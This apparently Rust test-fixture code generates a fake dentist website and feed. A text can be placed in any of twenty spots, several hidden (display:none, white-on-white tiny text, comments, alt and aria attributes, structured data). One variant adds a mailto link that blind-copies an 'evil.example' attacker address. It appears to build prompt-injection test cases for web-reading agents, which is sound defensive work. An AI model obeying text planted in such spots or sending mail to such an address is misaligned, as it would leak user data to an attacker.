//! Sites with one hostile place each, and the same sites with a harmless text in that place.

use std::{fs, path::Path};

/// Where on a site a text stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Carrier {
    Paragraph,
    Heading,
    Title,
    MetaDescription,
    OpenGraphTitle,
    DisplayNone,
    WhiteOnWhite,
    Comment,
    AltText,
    AriaLabel,
    StructuredData,
    PostTitle,
    FeedTitle,
    TeamMember,
    Service,
    MailLink,
    About,
    Footer,
    Noscript,
    Announcement,
}

impl Carrier {
    pub(super) const ALL: [Self; 20] = [
        Self::Paragraph,
        Self::Heading,
        Self::Title,
        Self::MetaDescription,
        Self::OpenGraphTitle,
        Self::DisplayNone,
        Self::WhiteOnWhite,
        Self::Comment,
        Self::AltText,
        Self::AriaLabel,
        Self::StructuredData,
        Self::PostTitle,
        Self::FeedTitle,
        Self::TeamMember,
        Self::Service,
        Self::MailLink,
        Self::About,
        Self::Footer,
        Self::Noscript,
        Self::Announcement,
    ];
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Writes the site of `host` into the archive; `text` stands at `carrier`.
pub(super) fn write(archive: &Path, host: &str, name: &str, carrier: Carrier, text: &str) {
    // Element text once as markup, too: a page may hold real tags.
    let html = escaped(text);
    let at = |wanted: Carrier, place: &str| match carrier == wanted {
        true => place.replace("TEXT", &html),
        false => String::new(),
    };
    let or = |wanted: Carrier, usual: &str| match carrier == wanted {
        true => html.clone(),
        false => usual.to_owned(),
    };
    let structured = match carrier {
        Carrier::StructuredData => serde_json::json!({
            "@context": "https://schema.org", "@type": "Dentist", "name": name,
            "description": text, "slogan": text,
        })
        .to_string()
        .replace("</", "<\\/"),
        _ => serde_json::json!({
            "@context": "https://schema.org", "@type": "Dentist", "name": name,
        })
        .to_string(),
    };
    let raw = match carrier {
        Carrier::Paragraph => format!("<p>{text}</p>"),
        Carrier::Comment => format!("<!-- {} -->", text.replace("--", "- -")),
        _ => String::new(),
    };
    let page = format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{title}</title>
<meta name="description" content="{description}">{og}
<link rel="alternate" type="application/rss+xml" href="/feed.xml">
<script type="application/ld+json">{structured}</script></head><body>
<header><h1>{heading}</h1><nav><a href="/contact">Contact</a> <a href="/blog">Blog</a></nav></header>
<main><p>{about}</p>{raw}{none}{white}{alt}{aria}{noscript}{news}
<section><h2>Services</h2><ul><li>Orthodontics</li><li>Implants</li><li>{service}</li></ul></section>
<section><h2>Our team</h2><p>{member}</p></section>
<section><h2>Blog</h2><article><h3><a href="/blog/braces">{post}</a></h3>
<time datetime="2026-02-20">20 February 2026</time></article></section></main>
<footer><p>Updated on 20 February 2026. {footer}</p>
<a href="mailto:info@{host}{mail}">info@{host}</a></footer></body></html>"#,
        title = or(Carrier::Title, name),
        description = or(Carrier::MetaDescription, "Dentistry for the whole family."),
        og = at(
            Carrier::OpenGraphTitle,
            r#"<meta property="og:title" content="TEXT">"#
        ),
        heading = or(Carrier::Heading, name),
        about = or(
            Carrier::About,
            "We have cared for the teeth of our town since 1998 and treat nervous patients with patience.",
        ),
        none = at(
            Carrier::DisplayNone,
            r#"<div style="display:none">TEXT</div>"#
        ),
        white = at(
            Carrier::WhiteOnWhite,
            r#"<span style="color:#fff;background:#fff;font-size:1px">TEXT</span>"#,
        ),
        alt = at(Carrier::AltText, r#"<img src="/a.png" alt="TEXT">"#),
        aria = at(
            Carrier::AriaLabel,
            r#"<button aria-label="TEXT">Menu</button>"#
        ),
        noscript = at(Carrier::Noscript, "<noscript>TEXT</noscript>"),
        news = at(
            Carrier::Announcement,
            "<div class=\"news\"><p>News: TEXT</p></div>"
        ),
        service = or(Carrier::Service, "Teeth whitening"),
        member = match carrier {
            Carrier::TeamMember => format!("{html}, owner"),
            _ => "Dr. Ana Silva, owner".to_owned(),
        },
        post = or(
            Carrier::PostTitle,
            "How clear aligners straighten adult teeth"
        ),
        footer = at(Carrier::Footer, "TEXT"),
        mail = match carrier {
            Carrier::MailLink => format!("?bcc=attacker-zq7x@evil.example&amp;body={html}"),
            _ => String::new(),
        },
    );
    let feed = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>{}</title><link>https://{host}/</link>\
         <item><title>{}</title><link>https://{host}/blog/braces</link>\
         <pubDate>Fri, 20 Feb 2026 08:00:00 GMT</pubDate></item></channel></rss>",
        escaped(name),
        or(
            Carrier::FeedTitle,
            "How clear aligners straighten adult teeth"
        ),
    );
    let folder = archive.join(host);
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("index.html"), page).unwrap();
    fs::write(folder.join("feed.xml"), feed).unwrap();
}
